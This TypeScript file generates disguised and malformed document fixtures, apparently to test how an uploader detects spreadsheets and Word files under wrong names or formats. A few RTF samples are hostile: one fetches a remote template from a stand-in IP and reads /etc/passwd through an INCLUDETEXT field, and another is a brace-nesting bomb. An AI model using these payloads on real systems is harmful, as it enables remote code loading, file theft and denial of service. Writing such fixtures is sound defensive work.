import { gzipSync } from 'node:zlib';
import { joinBytes } from '../../../src/model/join-bytes.js';
import { zip } from '../../read/build-package.js';
import { honest } from '../honest.js';
import { formCells, pageForm } from '../honest-form.js';
import { type HostileFile, maker } from '../maker.js';
import { partOf, stranger, withParts } from '../parts-of.js';
import { bytesOf, rawZip, u16, u32 } from '../raw-zip.js';
import { compound, record } from './compound.js';

const oldMain = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';

/** The same package as a template, with macros, as an add-in: only what it says it is differs. */
function* templates(): Generator<HostileFile> {
  const kinds = {
    xltx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml',
    xlsm: 'application/vnd.ms-excel.sheet.macroEnabled.main+xml',
    xltm: 'application/vnd.ms-excel.template.macroEnabled.main+xml',
    xlam: 'application/vnd.ms-excel.addin.macroEnabled.main+xml',
  };
  const types = partOf('form.xlsx', '[Content_Types].xml');
  for (const [ending, kind] of Object.entries(kinds))
    for (const name of [`模板统计表.${ending}`, `改名${ending}统计表.xlsx`, `改名${ending}统计表.xls`])
      yield { name, bytes: withParts('form.xlsx', { '[Content_Types].xml': types.replace(oldMain, kind) }) };
  const words = partOf('progress.docx', '[Content_Types].xml');
  for (const [ending, kind] of Object.entries({
    dotx: 'application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml',
    docm: 'application/vnd.ms-word.document.macroEnabled.main+xml',
    dotm: 'application/vnd.ms-word.template.macroEnabledTemplate.main+xml',
  }))
    yield {
      name: `模板写实表.${ending}`,
      bytes: withParts('progress.docx', {
        '[Content_Types].xml': words.replace(
          'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml',
          kind,
        ),
      }),
    };
  for (const ending of ['xls', 'et', 'ett', 'wps', 'doc', 'docx', 'ods', 'csv', 'txt', 'dat', 'bin', 'rar', 'pdf'])
    yield { name: `其实是新表统计表.${ending}`, bytes: stranger('form.xlsx') };
  for (const ending of ['xlsx', 'et', 'ett', 'xlt', 'wps', 'doc', 'docx', 'ods', 'csv', 'txt'])
    yield { name: `其实是旧表统计表.${ending}`, bytes: stranger('form.xls') };
  for (const ending of ['wps', 'wpt', 'dot', 'docx', 'xls', 'txt', 'rtf'])
    yield { name: `其实是旧文总结.${ending}`, bytes: honest('word.doc') };
}

/** Slides, drawings, projects: in containers of Office, of another program. */
function* others(): Generator<HostileFile> {
  const filled = new Uint8Array(5000).fill(7);
  const containers: Readonly<Record<string, Readonly<Record<string, Uint8Array>>>> = {
    '演示统计表.dps': { 'PowerPoint Document': filled, 'Current User': filled },
    '演示统计表.ppt': { 'PowerPoint Document': filled, 'Current User': filled, Pictures: filled },
    '绘图统计表.vsd': { VisioDocument: filled },
    '出版统计表.pub': { Contents: filled, Quill: filled },
    '项目统计表.mpp': { Props: filled, '   112': filled },
    '安装统计表.msi': { 䡀㼿䕷䑬㹪䒲䠯: filled },
    '便笺统计表.snt': { Version: filled, Metafile: filled },
    '照相馆统计表.mix': { Text: filled },
    '老公文统计表.wps': { CONTENTS: filled, MN0: filled },
    '汉字处理统计表.hwp': { FileHeader: bytesOf('HWP Document File'), DocInfo: filled },
    '跳转统计表.automaticDestinations-ms': { DestList: filled, '1': filled },
    '空盒统计表.xls': {},
    '嵌件统计表.xls': { '\u0001Ole10Native': filled, '\u0001CompObj': filled },
    '图表统计表.xls': { '\u0001CompObj': filled, CONTENTS: filled },
  };
  for (const [name, streams] of Object.entries(containers)) yield { name, bytes: compound(streams) };
}

const oldOpen = (kind: string, content: string) =>
  rawZip([
    { name: 'mimetype', content: bytesOf(`application/vnd.sun.xml.${kind}`), method: 0 },
    { name: 'content.xml', content: bytesOf(content) },
    {
      name: 'META-INF/manifest.xml',
      content: bytesOf('<manifest:manifest xmlns:manifest="http://openoffice.org/2001/manifest"/>'),
    },
  ]);

function* openOffice(): Generator<HostileFile> {
  const content =
    '<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE office:document-content PUBLIC "-//OpenOffice.org//DTD OfficeDocument 1.0//EN" "office.dtd"><office:document-content xmlns:office="http://openoffice.org/2000/office" office:class="spreadsheet"><office:body/></office:document-content>';
  for (const [ending, kind] of Object.entries({
    sxc: 'calc',
    stc: 'calc.template',
    sxw: 'writer',
    stw: 'writer.template',
    sxi: 'impress',
    sxd: 'draw',
    sxg: 'writer.global',
    sxm: 'math',
  }))
    for (const name of [`老办公统计表.${ending}`, `老办公${ending}统计表.xls`])
      yield { name, bytes: oldOpen(kind, content) };
  for (const kind of [
    'text',
    'text-template',
    'text-web',
    'text-master',
    'presentation',
    'graphics',
    'chart',
    'formula',
    'database',
    'image',
    'spreadsheet-template',
  ])
    yield {
      name: `开放${kind}统计表.ods`,
      bytes: rawZip([
        { name: 'mimetype', content: bytesOf(`application/vnd.oasis.opendocument.${kind}`), method: 0 },
        { name: 'content.xml', content: bytesOf('<x/>') },
        { name: 'META-INF/manifest.xml', content: bytesOf('<x/>') },
      ]),
    };
  yield { name: '星办公统计表.sdc', bytes: compound({ StarCalcDocument: new Uint8Array(5000).fill(1) }) };
  yield { name: '星办公总结.sdw', bytes: compound({ StarWriterDocument: new Uint8Array(5000).fill(1) }) };
  const uof = (root: string, body: string) =>
    bytesOf(
      `<?xml version="1.0" encoding="UTF-8"?>\n<uof:UOF xmlns:uof="http://schemas.uof.org/cn/2003/uof" xmlns:表="http://schemas.uof.org/cn/2003/uof-spreadsheet" uof:mimetype="${root}">${body}</uof:UOF>`,
    );
  yield { name: '标文通统计表.uos', bytes: uof('vnd.uof.spreadsheet', '<uof:电子表格/>') };
  yield { name: '标文通统计表.uof', bytes: uof('vnd.uof.spreadsheet', '<uof:电子表格/>') };
  yield { name: '标文通总结.uot', bytes: uof('vnd.uof.text', '<uof:文字处理/>') };
  yield {
    name: '标文通二统计表.uos',
    bytes: zip({
      'uof.xml': '<uof:UOF_0000 xmlns:uof="http://schemas.uof.org/cn/2009/uof"/>',
      'content.xml': '<x/>',
      'spreadsheet.xml': '<x/>',
    }),
  };
}

/** Text formats of tables and documents that spreadsheets open. */
const texts: Readonly<Record<string, string>> = {
  '符号链接统计表.slk': 'ID;PWXL;N;E\r\nC;Y1;X1;K"单位"\r\nC;Y1;X2;K"甲村"\r\nE\r\n',
  '符号链接冒充统计表.csv': 'ID,姓名\r\n1,甲\r\n',
  '数据交换统计表.dif':
    'TABLE\r\n0,1\r\n"EXCEL"\r\nVECTORS\r\n0,2\r\n""\r\nDATA\r\n0,0\r\n""\r\n-1,0\r\nBOT\r\n1,0\r\n"单位"\r\n-1,0\r\nEOD\r\n',
  '富文本统计表.rtf':
    '{\\rtf1\\ansi\\ansicpg936{\\fonttbl{\\f0 SimSun;}}\\trowd\\cellx2000\\cellx4000\\intbl \\u21333?\\u20301?\\cell 1\\cell\\row}',
  '富文本统计表.doc': "{\\rtf1\\ansi\\ansicpg936 \\'b5\\'a5\\'ce\\'bb}",
  '富文本冒充统计表.xls': '{\\rtf1\\ansi x}',
  '富文本炸弹总结.doc': `{\\rtf1${'{'.repeat(60_000)}`,
  '富文本对象总结.doc': `{\\rtf1{\\object\\objemb{\\*\\objdata ${'0105000002000000'.repeat(4000)}}}}`,
  '富文本模板总结.doc':
    '{\\rtf1{\\*\\template http://192.0.2.1/x.dotm}{\\field{\\*\\fldinst INCLUDETEXT "file:///etc/passwd"}}}',
  '排版总结.tex': '\\documentclass{ctexart}\\begin{document}总结\\end{document}',
  '标记总结.md': '# 总结\n\n| 项目 | 数 |\n|---|---|\n| 宣传 | 3 |\n',
  '数据统计表.json': '{"单位":"甲村","宣传活动":3}',
  '数据统计表.jsonl': '{"单位":"甲村"}\n{"单位":"乙村"}\n',
  '数据统计表.yaml': '单位: 甲村\n宣传: 3\n',
  '数据统计表.xml': '<?xml version="1.0" encoding="UTF-8"?><数据><单位>甲村</单位></数据>',
  '数据统计表.sql': "INSERT INTO t VALUES ('甲村', 3);\n",
  '固定宽统计表.prn': '单位      宣传\n甲村         3\n',
  '制表符统计表.xls': '单位\t宣传活动\r\n甲村\t3\r\n',
  '逗号统计表.xlsx': '单位,宣传活动\r\n甲村,3\r\n',
  '通讯录.ldif': 'dn: cn=a\nobjectClass: person\n',
  '日历.ics': 'BEGIN:VCALENDAR\r\nVERSION:2.0\r\nEND:VCALENDAR\r\n',
  '字幕.srt': '1\n00:00:01,000 --> 00:00:02,000\n活动\n',
  '工程.vcxproj': '<Project/>',
  '脑图统计表.opml': '<?xml version="1.0"?><opml version="2.0"><body/></opml>',
  '排版统计表.wpd': '\u00ffWPC',
};

/** Closed archives, images of disks, packages of systems; each cut short behind what tells it. */
const magics: Readonly<Record<string, string>> = {
  'rar四.rar': '526172211a0700cf907300000d00000000000000',
  'rar五.rar': '526172211a0701003392b5e50a01050600050101',
  'rar冒充统计表.xlsx': '526172211a0700cf907300000d00000000000000',
  '七.7z': '377abcaf271c00040000000000000000',
  '七冒充统计表.zip': '377abcaf271c00040000000000000000',
  '老rar.rar': '52457e5e0000000000000000',
  '压一.gz': '1f8b0808000000000003cdb3',
  '压二.bz2': '425a683931415926535900000000',
  '压三.xz': 'fd377a585a000004e6d6b446',
  '压四.zst': '28b52ffd2400010000',
  '压五.lz4': '04224d186440a7',
  '压六.lzma': '5d00008000ffffffffffffffff00',
  '压七.lz': '4c5a495001',
  '压八.br': '8b0280',
  '压九.Z': '1f9d90',
  '压十.sz': 'ff060000734e61507059',
  '好压.zpaq': '377a5374a031',
  '快压.kz': '4b5a',
  '老包.arc': '1a08',
  '老包.zoo': '5a4f4f20322e3130204172636869',
  '老包.ace': '313131313131312a2a4143452a2a',
  '老包.sit': '53495421',
  '老包.hqx': '28546869732066696c65206d757374',
  '安装.deb': '213c617263683e0a64656269616e2d62',
  '安装.rpm': 'edabeedb0300',
  '安装.dmg': '7801730d626260',
  '安装.xar.pkg': '78617221001c0001',
  '帮助.hlp': '3f5f0300',
  '字典.mobi': '424f4f4b4d4f4249',
  '阅读.djvu': '41542654464f524d',
  '书生.sep': '53455057',
  '超星.pdg': '4848',
  '方正.ceb': '466f756e64657220434542',
  '文通.tif': '49492a0008000000',
  '画图.wmf': 'd7cdc69a00000000',
  '画图.emf': '0100000068000000',
  '画图.cdr': '5249464600000000434452',
  '画图.ico': '0000010001002020',
  '画图.jp2': '0000000c6a5020200d0a870a',
  '画图.jxl': 'ff0a',
  '视频.rmvb': '2e524d46',
  '视频.swf': '435753',
  '视频.amv': '5249464600000000414d5620',
  '录音.amr': '2321414d520a',
  '录音.silk': '0223215349 4c4b5f5633'.replaceAll(' ', ''),
  '证书.pfx': '308209d6020103',
  '密钥.gpg': '8501',
  '表单.xfdl': '6170706c69636174696f6e2f766e642e',
  '数据.mdb': '000100005374616e64617264204a6574',
  '数据.parquet': '50415231',
  '数据.rdata': '1f8b08000000',
  '数据.sav': '24464c32',
  '数据.dta': '3c73746174615f647461',
  '表.wk1': '0000020006040600',
  '表.wk3': '00001a0000100400',
  '表.qpw': 'd0cf11e0a1b11ae1',
  '表.gnumeric': '1f8b0800000000000003',
  '文.wri': '31be000000ab',
  '文.lwp': '576f726450726f',
  '文.sam': '5b7665725d0d0a09',
  '文.abw': '3c3f786d6c20',
};

function* closed(): Generator<HostileFile> {
  for (const [name, text] of Object.entries(texts)) yield { name, bytes: bytesOf(text) };
  const filling = Uint8Array.from({ length: 3000 }, (_, n) => (n * 7919 + 13) % 251);
  for (const [name, magic] of Object.entries(magics))
    yield { name, bytes: joinBytes([new Uint8Array(Buffer.from(magic, 'hex')), filling]) };
  yield { name: '压缩统计表.xlsx.gz', bytes: new Uint8Array(gzipSync(stranger('form.xlsx'))) };
  yield { name: '压缩冒充统计表.xlsx', bytes: new Uint8Array(gzipSync(stranger('form.xlsx'))) };
  yield { name: '光盘.iso', bytes: joinBytes([new Uint8Array(32_769), bytesOf('CD001'), filling]) };
  yield {
    name: '包.tar',
    bytes: joinBytes([bytesOf('信息统计表.xlsx'), new Uint8Array(237), bytesOf('ustar\u000000'), filling]),
  };
  yield { name: '包.cpio', bytes: joinBytes([bytesOf('070701'), filling]) };
}

/** Whole workbooks of Excel 2 to 95 with figures in them; text in the code page of who wrote it. */
function* before97(): Generator<HostileFile> {
  const cells = formCells().filter(({ text }) => text !== '');
  const gbk = Uint8Array.of(0xb5, 0xa5, 0xce, 0xbb);
  const at = (row: number, column: number) => joinBytes([u16(row - 1), u16(column - 1)]);
  const number = (value: number) => new Uint8Array(new Float64Array([value]).buffer);
  for (const [version, begin] of Object.entries({ 2: 0x0009, 3: 0x0209, 4: 0x0409 })) {
    const old = version === '2';
    const records = cells.map(({ row, column, text, isFigure }) => {
      const place = joinBytes([at(row, column), old ? new Uint8Array(3) : u16(0)]);
      const content = old ? joinBytes([Uint8Array.of(gbk.length), gbk]) : joinBytes([u16(gbk.length), gbk]);
      return isFigure
        ? record(old ? 0x0003 : 0x0203, place, number(Number(text)))
        : record(old ? 0x0004 : 0x0204, place, content);
    });
    const stream = joinBytes([record(begin, u16(Number(version)), u16(0x10)), ...records, record(0x000a)]);
    yield { name: `老表${version}统计表.xls`, bytes: stream };
    yield { name: `老表${version}统计表.xlsx`, bytes: stream };
  }
  const sheet = joinBytes([
    record(0x0809, u16(0x0500), u16(0x10), u32(0)),
    ...cells.map(({ row, column, text, isFigure }) =>
      isFigure
        ? record(0x0203, at(row, column), u16(15), number(Number(text)))
        : record(0x0204, at(row, column), u16(15), u16(gbk.length), gbk),
    ),
    record(0x000a),
  ]);
  const named = (start: number) => record(0x0085, u32(start), u16(0), Uint8Array.of(4), gbk);
  const head = joinBytes([record(0x0809, u16(0x0500), u16(5), u32(0)), record(0x0042, u16(936))]);
  const start = head.length + named(0).length + 4;
  const book = joinBytes([head, named(start), record(0x000a), sheet]);
  for (const ending of ['xls', 'et', 'xlsx']) yield { name: `九五统计表.${ending}`, bytes: compound({ Book: book }) };
  yield { name: '两代统计表.xls', bytes: compound({ Book: book, Workbook: new Uint8Array() }) };
}

/** A web page in one file, as Word, Excel, WPS and browsers save it, under the names it is given. */
function* webArchives(): Generator<HostileFile> {
  const page = pageForm();
  const quoted = [...new TextEncoder().encode(page)]
    .map((byte) =>
      byte < 0x21 || byte > 0x7e || byte === 0x3d
        ? `=${byte.toString(16).toUpperCase().padStart(2, '0')}`
        : String.fromCharCode(byte),
    )
    .join('')
    .replace(/(.{72}[^=]{0,3})/g, '$1=\r\n');
  const part = (location: string, type: string, how: string, body: string) =>
    `------=_NextPart\r\nContent-Location: ${location}\r\nContent-Transfer-Encoding: ${how}\r\nContent-Type: ${type}\r\n\r\n${body}\r\n\r\n`;
  const archive = (head: string, ...parts: readonly string[]) =>
    bytesOf(
      `MIME-Version: 1.0\r\n${head}Content-Type: multipart/related; boundary="----=_NextPart"\r\n\r\n此文档为“单个文件网页”\r\n\r\n${parts.join('')}------=_NextPart--\r\n`,
    );
  const plain = part('file:///C:/A/统计表.htm', 'text/html; charset="utf-8"', 'quoted-printable', quoted);
  const packed = part(
    'file:///C:/A/统计表.htm',
    'text/html; charset="utf-8"',
    'base64',
    Buffer.from(page).toString('base64'),
  );
  const picture = part(
    'file:///C:/A/image001.png',
    'image/png',
    'base64',
    Buffer.from(honest('photo.jpg')).toString('base64'),
  );
  for (const ending of ['mht', 'mhtml', 'xls', 'doc', 'eml', 'xlsx', 'txt']) {
    yield { name: `网页档统计表.${ending}`, bytes: archive('X-Document-Type: Workbook\r\n', plain) };
    yield { name: `网页档编码统计表.${ending}`, bytes: archive('', packed, picture) };
  }
  yield {
    name: '浏览器网页统计表.mhtml',
    bytes: archive(
      'From: <Saved by Blink>\r\nSnapshot-Content-Location: https://example.org/\r\nSubject: =?utf-8?Q?x?=\r\nDate: Thu, 4 May 2023 10:00:00 -0000\r\n',
      plain,
    ),
  };
  yield {
    name: '旧浏览器网页统计表.mht',
    bytes: archive(
      'From: "由 Windows Internet Explorer 8 保存"\r\nSubject: x\r\nX-MimeOLE: Produced By Microsoft MimeOLE\r\n',
      plain,
    ),
  };
  yield { name: '断了的网页档统计表.mht', bytes: archive('X-Document-Type: Workbook\r\n', plain).slice(0, 5000) };
  yield { name: '苹果网页统计表.webarchive', bytes: joinBytes([bytesOf('bplist00'), new Uint8Array(3000).fill(2)]) };
}

export const otherKinds = [
  maker('packages under each other’s names', templates),
  maker('ole: containers of other programs', others),
  maker('OpenOffice.org, StarOffice and UOF', openOffice),
  maker('formats of text, closed archives and the rest', closed),
  maker('xls: whole workbooks of Excel 2 to 95', before97),
  maker('web pages in one file', webArchives),
];
